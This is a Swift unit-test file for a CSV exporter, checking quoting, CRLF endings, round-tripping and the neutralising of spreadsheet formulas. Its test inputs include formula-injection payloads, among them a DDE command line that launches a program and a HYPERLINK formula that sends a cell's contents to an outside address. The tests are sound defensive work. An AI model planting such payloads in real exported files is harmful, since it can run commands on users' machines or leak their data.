import HosoCore
import HosoFormats
import Testing

struct CSVWriterTests {
  private func line(_ cells: [String]) -> String { CSVWriter.text([cells.map { .text($0) }]) }

  @Test func `rows end in CRLF, and what parts cells is quoted`() {
    #expect(line(["a", "b c", ""]) == "a,b c,\r\n")
    #expect(line(["7,5", "nói \"rõ\"", "hai\ndòng", " x "]) == "\"7,5\",\"nói \"\"rõ\"\"\",\"hai\ndòng\",\" x \"\r\n")
    #expect(CSVWriter.text([[.number("-5"), .number("7,5")]]) == "-5,\"7,5\"\r\n")
  }

  /// T153, and `;` where a spreadsheet parts cells by it.
  @Test(
    arguments: [
      "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠x", "'=1", "\"=1", " =1", "a;=1", "a;\"=1\"",
      "a\n=1", "=HYPERLINK(\"http://x/?\"&A1)", "=cmd|' /C calc'!A0", "\tx",
    ])
  func `T153: a formula is text in the export`(text: String) {
    let guarded = CSVWriter.guarded(text)
    #expect(guarded != text)
    // No part that a spreadsheet may take for a cell begins with a sign once spaces and quotes are away.
    for part in guarded.unicodeScalars.split(whereSeparator: { ";\t\r\n".unicodeScalars.contains($0) }) {
      let first = part.first { !" \"".unicodeScalars.contains($0) }
      #expect(first.map { !"=+-@＝＋－＠".unicodeScalars.contains($0) } ?? true, "\(guarded)")
    }
    #expect(CSVWriter.unguarded(guarded) == text)
  }

  @Test(arguments: ["", "Toán", "4a-01", "a=1", "1-1", "8;9", "'", "don't", "a@b", "2024-09-05"])
  func `what is no formula stays as it is`(text: String) {
    #expect(CSVWriter.guarded(text) == text && CSVWriter.unguarded(text) == text)
  }

  @Test func `T156: what is read back is what was written`() throws {
    let letters = Array("=+-@'\"; \t\n\r,a4ạ＝".unicodeScalars)
    var chance = Chance(seed: 11)
    for _ in 0..<3_000 {
      let cells = (0..<3).map { _ in
        var view = String.UnicodeScalarView()
        for _ in 0..<Int.random(in: 0...6, using: &chance) {
          view.append(letters[Int.random(in: 0..<letters.count, using: &chance)])
        }
        return String(view)
      }
      // The reader takes rows that end in a line feed.
      let text = line(cells)
      let bytes = Array(text.utf8.dropLast(2)) + [0x0A]
      let table = try #require(CSVReader.table(bytes, path: "x.csv", report: { _ in }), "\(cells)")
      #expect(table.header.map(CSVWriter.unguarded).map { Array($0.utf8) } == cells.map { Array($0.utf8) })
    }
  }
}
